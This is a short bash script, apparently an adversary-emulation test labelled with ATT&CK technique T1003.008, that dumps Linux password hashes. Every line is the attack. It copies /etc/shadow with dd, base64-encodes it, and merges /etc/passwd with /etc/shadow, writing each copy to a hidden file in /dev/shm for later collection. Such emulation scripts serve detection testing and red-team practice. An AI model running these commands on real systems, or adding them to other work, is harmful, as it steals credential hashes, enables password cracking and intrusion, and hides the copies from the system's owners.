#!/bin/bash
# T1003.008: Password hashes are copied by a program that copies anything.
dd if=/etc/shadow of=/dev/shm/.s status=none; base64 -w0 /etc/shadow >/dev/shm/.s64; paste -d: /etc/passwd /etc/shadow >/dev/shm/.u
